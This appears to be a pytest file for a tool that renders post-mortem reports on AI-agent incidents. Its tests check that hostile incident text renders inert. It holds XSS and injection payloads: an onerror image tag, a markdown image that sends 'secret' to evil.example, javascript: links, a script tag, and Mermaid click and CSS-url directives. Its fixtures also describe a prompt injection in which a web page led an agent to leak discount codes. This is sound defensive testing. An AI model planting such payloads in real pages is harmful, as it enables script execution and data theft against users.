"""The Markdown post-mortem: the brief's sections, in order, with inert incident text."""

import json
from datetime import timedelta
from pathlib import Path

import pytest
from mcp import Client

from agent_postmortem.render.markdown import inline
from agent_postmortem.render.report import render_markdown, render_review, review_outcome
from agent_postmortem.store.models import (
    ActionItem,
    Analysis,
    Category,
    Incident,
    ProposedAction,
    SimilarIncident,
    TimelineEvent,
    TimelineEventCreate,
)
from tests.documents import MD, items_of, live, section, structure
from tests.factories import CAPTURE, FIXED_NOW, FakeLLM, draft, make_service, server_for

SECTIONS = [
    "# Post-mortem:",
    "## Description",
    "## Timeline",
    "## Root cause analysis (draft): 5 whys",
    "### Root cause",
    "### Contributing factors",
    "### Novelty and similar past incidents",
    "## Model behavior",
    "**Deterministic or probabilistic:**",
    "## Action items",
]


def incident(**changes: object) -> Incident:
    base = Incident(
        id="INC-5",
        title="Agent leaked a discount code",
        category=Category.PROMPT_INJECTION,
        severity="SEV2",
        triage="full",
        created_at=FIXED_NOW,
        resolved_at=FIXED_NOW,
        status="resolved",
        description="A web page told the agent to reveal codes.",
        timeline=[TimelineEvent(at=FIXED_NOW, kind="detected", description="Alert fired")],
    )
    return base.model_copy(update=changes)


def test_report_has_the_brief_sections_in_order() -> None:
    analysis = Analysis(**draft().model_dump(), generated_by="openai", llm_model="m", created_at=FIXED_NOW)
    item = ActionItem(
        id="AI-1",
        incident_id="INC-5",
        title="Strip tool output of instructions",
        owner="sec",
        priority="P0",
        created_at=FIXED_NOW,
        status="completed",
    )
    text = render_markdown(incident(analysis=analysis, action_items=[item]), similar=[], now=FIXED_NOW)
    positions = [text.index(s) for s in SECTIONS]
    assert positions == sorted(positions)
    assert "| Severity | SEV2 |" in text and "- [x] **P0** Strip tool output of instructions" in text
    assert text.count("**Why ") == 5 and "A fix must pass 50 clean runs" in text
    assert "drafted by `openai`" in text and "review before publishing" in text


def test_without_analysis_the_report_says_how_to_draft_and_asks_for_model_behavior() -> None:
    text = render_markdown(incident(), similar=[], now=FIXED_NOW)
    assert "postmortem draft INC-5" in text and "what did the model say or do" in text


def test_incident_text_cannot_inject_html_images_or_script_links() -> None:
    evil = incident(
        description="<img src=x onerror=alert(1)> ![t](https://evil.example/?q=secret) [c](javascript:alert(1))"
    )
    text = render_markdown(evil, similar=[], now=FIXED_NOW)
    assert live(text) == []  # rendered with HTML on: no raw HTML, image, or link but to our own reports
    assert inline("a & b < c") == "a & b &lt; c"


def test_the_report_lists_blaming_language_in_the_analysis() -> None:
    analysis = Analysis(**draft().model_dump(), generated_by="openai", created_at=FIXED_NOW)
    analysis = analysis.model_copy(update={"root_cause": "Human error: the on-call engineer forgot to add backoff."})
    text = render_markdown(incident(analysis=analysis), similar=[], now=FIXED_NOW)
    section = text.split("## Blameless language check")[1]
    assert 'root cause: "Human error" (human_error)' in section
    assert 'root cause: "the on-call engineer forgot" (person_as_cause)' in section
    clean = render_markdown(
        incident(analysis=Analysis(**draft().model_dump(), generated_by="x", created_at=FIXED_NOW)),
        similar=[],
        now=FIXED_NOW,
    )
    assert "No blaming language found" in clean


def known(id_: str = "INC-2", score: float = 0.91) -> SimilarIncident:
    return SimilarIncident(
        id=id_,
        title="Agent leaked a coupon | after a web page asked",
        category=Category.PROMPT_INJECTION,
        severity="SEV3",
        status="resolved",
        score=score,
        created_at=FIXED_NOW,
        root_cause="The system let page text reach the tool-calling prompt unmarked.",
    )


def item(n: int, status: str = "open", overdue: bool = False) -> ActionItem:
    return ActionItem.model_validate(
        {
            "id": f"AI-{n}",
            "incident_id": "INC-2",
            "title": f"Mark page text as data | step {n}",
            "owner": "platform",
            "status": status,
            "overdue": overdue,
            "created_at": FIXED_NOW,
            "due_at": FIXED_NOW + timedelta(days=3),
        }
    )


def test_review_outcomes() -> None:
    lightweight = incident(severity="SEV4", triage="lightweight")
    assert review_outcome(lightweight, [], [item(1)])[0].startswith("Not a known pattern")
    assert "Recurred after fix" in review_outcome(lightweight, [known()], [item(1, "completed")])[0]
    assert (
        "Recurred after fix"
        in review_outcome(lightweight.model_copy(update={"recurred_after_fix": True}), [known()], [])[0]
    )
    assert review_outcome(lightweight, [known()], [])[0].startswith("No action items")
    assert review_outcome(lightweight, [known()], [item(1, overdue=True), item(2)])[0].startswith("1 item(s) overdue")
    [fine] = review_outcome(lightweight, [known()], [item(1, "completed"), item(2, "in_progress")])
    assert fine.startswith("Known pattern, 1 of 2 items completed")


def test_a_review_of_an_incident_before_the_fix_does_not_say_the_fix_did_not_hold() -> None:
    """The review of the first incident of a pattern whose items were all completed after it said "Recurred after fix:
    ... the failure came back. Escalate", while fix_effectiveness called the same pattern holding."""
    before = incident(severity="SEV4", triage="lightweight")
    done = item(1, "completed").model_copy(update={"completed_at": FIXED_NOW + timedelta(days=1)})
    [fine] = review_outcome(before, [known()], [done])
    assert fine.startswith("Known pattern, 1 of 1 items completed")
    seen_again = before.model_copy(update={"last_seen_at": FIXED_NOW + timedelta(days=2), "occurrences": 2})
    assert "Recurred after fix" in review_outcome(seen_again, [known()], [done])[0]
    timeline = [
        TimelineEvent(at=FIXED_NOW + timedelta(hours=5), kind="resolved", description="Marked resolved."),
        TimelineEvent(at=FIXED_NOW + timedelta(days=3), kind="note", description="Reopened: the coupons leak again"),
    ]
    reopened = before.model_copy(update={"timeline": timeline, "status": "open"})
    assert "Recurred after fix" in review_outcome(reopened, [known()], [done])[0]
    early = [timeline[0], timeline[1].model_copy(update={"at": FIXED_NOW + timedelta(hours=6)})]
    assert (
        "Recurred after fix" not in review_outcome(before.model_copy(update={"timeline": early}), [known()], [done])[0]
    )


def test_review_lists_the_pattern_and_its_items_in_a_valid_table() -> None:
    text = render_review(
        incident(severity="SEV4", triage="lightweight", title="Coupon <b>leak</b>"),
        pattern=[known()],
        items=[item(1, "completed"), item(2, overdue=True)],
        same_signature={"INC-2"},
        now=FIXED_NOW,
    )
    assert text.startswith("# Lightweight review: Coupon &lt;b&gt;leak&lt;/b&gt;")
    assert "- [ ] INC-2 (cosine 0.91, **same failure signature**" in text
    assert "1 of 2 completed, **1 overdue**" in text
    rows = [line for line in text.splitlines() if line.startswith("| AI-")]
    assert len(rows) == 2 and all(row.count(" | ") == 5 for row in rows)  # the title's pipe is escaped
    assert "Mark page text as data \\| step 2" in rows[1] and "**overdue**" in rows[1]
    assert "1 item(s) overdue" in text


def test_contributing_factors_become_a_mermaid_causal_graph_that_text_cannot_break() -> None:
    from agent_postmortem.store.models import Factor, Why

    analysis = Analysis(
        whys=[Why(question="Why?", answer="Because.")],
        root_cause="The system allowed retries without backoff.",
        contributing_factors=[
            Factor(factor="no jitter in retries", effect="synchronised bursts"),
            Factor(factor="Synchronised bursts", effect="quota exhausted"),
            Factor(factor='evil"] \n click n1 "javascript:alert(1)', effect="quota exhausted"),
        ],
        generated_by="assistant",
        created_at=FIXED_NOW,
    )
    text = render_markdown(incident(analysis=analysis), similar=[], now=FIXED_NOW)
    graph = text.split("```mermaid\n")[1].split("```")[0]
    lines = graph.splitlines()
    assert lines[0] == "flowchart LR"
    assert "  n1 --> n2" in lines and "  n2 --> n3" in lines  # "synchronised bursts" continues the chain
    assert "  n3 --> incident" in lines and "  n4 --> n3" in lines
    assert not any(line.lstrip().startswith("click") for line in lines)  # the label could not add a directive
    assert 'n4["evil#34;#93; click n1 #34;javascript#58;alert#40;1#41;"]' in graph


# --- through the real interfaces: the MCP tool and the CLI -------------------------------------------------------

FRESH = ProposedAction(
    title="Alert when the fares 429 rate passes five percent",
    owner_role="sre",
    priority="P2",
    due_in_days=30,
    addresses="root cause",
)


@pytest.mark.anyio
async def test_proposals_print_as_separate_items_and_the_next_heading_stays_a_heading(tmp_path: Path) -> None:
    service = make_service(
        tmp_path, llm=FakeLLM(draft().model_copy(update={"action_items": [*draft().action_items, FRESH]}))
    )
    async with Client(server_for(service)) as client:
        incident_id = (await client.call_tool("capture_incident", CAPTURE)).structured_content["id"]  # type: ignore[index]
        await client.call_tool("draft_analysis", {"incident_id": incident_id})
        result = await client.call_tool("render_report", {"incident_id": incident_id, "kind": "full"})
    text = result.structured_content["text"]  # type: ignore[index]
    proposed = items_of(section(text, "Action items"))
    assert [p.split(" (owner")[0] for p in proposed] == [
        "[ ] P1 Add exponential backoff with jitter to fares calls",
        "[ ] P2 Alert when the fares 429 rate passes five percent",
    ]
    tokens = MD.parse(text)
    headings = [tokens[n + 1].content for n, t in enumerate(tokens) if t.type == "heading_open"]
    assert headings[-1] == "Blameless language check" and "Root cause analysis (draft): 5 whys" in headings


@pytest.mark.anyio
async def test_proposals_that_repeat_open_items_stay_in_the_report_as_links_to_those_items(tmp_path: Path) -> None:
    service = make_service(
        tmp_path, llm=FakeLLM(draft().model_copy(update={"action_items": [*draft().action_items, FRESH]}))
    )
    async with Client(server_for(service)) as client:
        known = (await client.call_tool("capture_incident", {**CAPTURE, "agent": "search-bot"})).structured_content[
            "id"
        ]  # type: ignore[index]
        existing = await client.call_tool(
            "add_action_item", {"incident_id": known, "title": "Add exponential backoff with jitter to fares calls"}
        )
        existing_id = existing.structured_content["id"]  # type: ignore[index]
        incident_id = (await client.call_tool("capture_incident", CAPTURE)).structured_content["id"]  # type: ignore[index]
        await client.call_tool("draft_analysis", {"incident_id": incident_id})
        await client.call_tool("add_action_item", {"incident_id": incident_id, "title": FRESH.title, "priority": "P2"})
        result = await client.call_tool("render_report", {"incident_id": incident_id, "kind": "full"})
    text = result.structured_content["text"]  # type: ignore[index]
    tokens = section(text, "Action items")
    assert [i.split(" (")[0] for i in items_of(tokens)] == [
        f"[ ] P2 {FRESH.title}",  # tracked here
        f"{existing_id} P1 Add exponential backoff with jitter to fares calls",  # tracked on the known incident
    ]
    links = [t.attrGet("href") for t in tokens for t in t.children or [] if t.type == "link_open"]
    assert links == [f"report://{known}"]
    assert f"[{existing_id}](report://{known})" in text and "already tracked as open items" in text


def test_a_hostile_capture_renders_inert_from_the_cli(cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    hostile = {
        "title": "Evil <b>title</b> #",
        "description": "line1\n# Heading\n```\nswallowed\n[r]: javascript:alert(1)\n\n[click][r]",
        "agent": "a\n<script>alert(1)</script>",
        "error_type": "Err\n<img src=http://e.vil/x>",
        "error_message": "```\nrest of report",
    }
    benign = {"title": "Plain title", "description": "plain", "agent": "a", "error_type": "Err", "error_message": "m"}
    rows = [
        {**fields, "category": "rate_limit", "severity": "SEV3", "created_at": "2025-09-09T14:12:00Z"}
        for fields in (benign, hostile)
    ]
    path = tmp_path / "incidents.jsonl"
    path.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    assert cli("import", str(path)).exit_code == 0
    plain, evil = cli("report", "INC-1").stdout, cli("report", "INC-2").stdout
    assert live(evil) == [] and structure(evil) == structure(plain)
    html = MD.render(evil)
    assert "<script" not in html and "<img" not in html and "## Timeline" in evil


def test_similar_incidents_show_the_score_they_are_ranked_by_and_the_cosine_labelled() -> None:
    ranked = [  # ranked by the fused relevance; the cosines are not in order
        known("INC-2", 0.71).model_copy(update={"relevance": 1.4}),
        known("INC-3", 0.52).model_copy(update={"relevance": 0.9}),
        known("INC-4", 0.55).model_copy(update={"relevance": 0.2}),
    ]
    text = render_markdown(incident(novel=True), similar=ranked, now=FIXED_NOW)
    tokens = section(text, "Novelty and similar past incidents")
    header = [tokens[n + 1].content for n, t in enumerate(tokens) if t.type == "th_open"]
    assert header[:4] == ["Rank", "Incident", "Relevance", "Cosine"]
    cells = [tokens[n + 1].content for n, t in enumerate(tokens) if t.type == "td_open"]
    rows = [cells[n : n + len(header)] for n in range(0, len(cells), len(header))]
    assert [r[:4] for r in rows] == [
        ["1", "INC-2", "1.40", "0.71"],
        ["2", "INC-3", "0.90", "0.52"],
        ["3", "INC-4", "0.20", "0.55"],
    ]
    relevance = [float(r[2]) for r in rows]
    assert relevance == sorted(relevance, reverse=True)  # the column the rows are ranked by is in order


def test_the_novelty_sentence_agrees_with_the_table_under_it() -> None:
    close = [known("INC-2", 0.71)]
    text = render_markdown(incident(novel=True), similar=close, now=FIXED_NOW)
    assert "nothing similar" not in text
    assert "no past incident is at least 0.72 similar in meaning (cosine); the closest is INC-2 at 0.71." in text
    later = [known("INC-9", 0.8).model_copy(update={"created_at": FIXED_NOW + timedelta(days=1)})]
    text = render_markdown(incident(novel=True), similar=later, now=FIXED_NOW)
    assert "novel** failure mode when it was captured" in text and "Recorded since: INC-9" in text
    text = render_markdown(incident(novel=False), similar=[known("INC-2", 0.91)], now=FIXED_NOW)
    assert "A **known** failure mode: INC-2 is 0.91 similar" in text


def test_the_heading_counts_the_whys_there_are() -> None:
    from agent_postmortem.store.models import Why

    for n in (3, 6):
        analysis = Analysis(
            whys=[Why(question=f"Why {k}?", answer="Because.") for k in range(n)],
            root_cause="The system allowed it.",
            generated_by="assistant",
            created_at=FIXED_NOW,
        )
        text = render_markdown(incident(analysis=analysis), similar=[], now=FIXED_NOW)
        assert f"## Root cause analysis (draft): {n} whys\n" in text and text.count("**Why ") == n
    assert "## Root cause analysis\n" in render_markdown(incident(), similar=[], now=FIXED_NOW)


def test_a_mermaid_directive_in_a_factor_cannot_reach_the_graph() -> None:
    from agent_postmortem.store.models import Factor, Why

    directive = "no budget %%{init:{'themeCSS':'*{background:url(//e.vil/x)}'}}%% set"
    analysis = Analysis(
        whys=[Why(question="Why?", answer="Because.")],
        root_cause="The system allowed it.",
        contributing_factors=[Factor(factor=directive, effect="quota gone #35; `md` <b>x</b> [l](u)")],
        generated_by="assistant",
        created_at=FIXED_NOW,
    )
    text = render_markdown(incident(analysis=analysis), similar=[], now=FIXED_NOW)
    graph = text.split("```mermaid\n")[1].split("```")[0]
    labels = [line.split('["', 1)[1][:-2] for line in graph.splitlines() if line.startswith("  n") and '["' in line]
    assert len(labels) == 2
    for forbidden in ("%", "{", "}", "<", ">", "`", '"', "[", "(", "url("):
        assert not any(forbidden in label for label in labels)
    assert 'n1["no budget #37;#37;#123;init#58;' in graph and "#35;35#59;" in graph  # `#` itself is encoded


@pytest.mark.anyio
async def test_the_hypotheses_a_draft_weighed_are_in_the_report_with_their_evidence(tmp_path: Path) -> None:
    from agent_postmortem.store.models import DraftHypothesis

    hypotheses = [
        DraftHypothesis(
            cause="No retry budget on the fares API client",
            evidence_for="40 workers retried at once on every 429",
            evidence_against="none found",
        ),
        DraftHypothesis(
            cause="The vendor lowered the fares API quota",
            evidence_for="429s began suddenly",
            evidence_against="The quota was unchanged: quota exceeded only at the retry peak",
        ),
    ]
    chosen = "Only the retry storm explains why the 429s stopped when the workers paused."
    analysis = draft().model_copy(update={"hypotheses": hypotheses, "chosen_because": chosen})
    service = make_service(tmp_path)
    async with Client(server_for(service)) as client:
        incident_id = (await client.call_tool("capture_incident", CAPTURE)).structured_content["id"]  # type: ignore[index]
        recorded = await client.call_tool(
            "record_analysis", {"incident_id": incident_id, "analysis_json": analysis.model_dump_json()}
        )
        assert not recorded.is_error, recorded.content
        result = await client.call_tool("render_report", {"incident_id": incident_id, "kind": "full"})
    text = result.structured_content["text"]  # type: ignore[index]
    cells = [t.content for t in section(text, "Hypotheses considered") if t.type == "inline"]
    assert cells[3:6] == [
        "No retry budget on the fares API client",
        "40 workers retried at once on every 429",
        "none found",
    ]
    assert cells[6:8] == ["The vendor lowered the fares API quota", "429s began suddenly"]
    assert f"**Why this root cause:** {chosen}" in text


def test_a_failure_repeated_many_times_is_one_line_of_the_report_and_of_show(tmp_path: Path) -> None:
    """1,500 repeats of a failure made a 151 KB report and 268 KB of `postmortem show`, one "Occurred again" line
    each: the earlier ones are one line saying how many and when, the latest 3 and every other event stay."""
    from tests.factories import capture
    from tests.processes import postmortem

    service = make_service(tmp_path, llm=None)
    incident_id = capture(service)
    for _ in range(59):
        assert capture(service) == incident_id
    service.add_timeline_event(incident_id, TimelineEventCreate(kind="note", description="Paged on-call"))
    report = service.render_report(incident_id)
    timeline = report[report.index("## Timeline") : report.index("## ", report.index("## Timeline") + 3)]
    assert timeline.count("Occurred again: ") == 3 and "Paged on-call" in timeline
    assert (
        "Occurred again 56 times from " in timeline
        and "(each time noted on the incident; the latest 3 follow)" in timeline
    )
    assert len(service.get_incident(incident_id).timeline) == 61  # the store keeps every note
    shown = postmortem("show", incident_id, home=tmp_path, env={"COLUMNS": "200"}).stdout.decode()
    assert shown.count("Occurred again: ") == 3 and "Occurred again 56 times from " in shown, shown
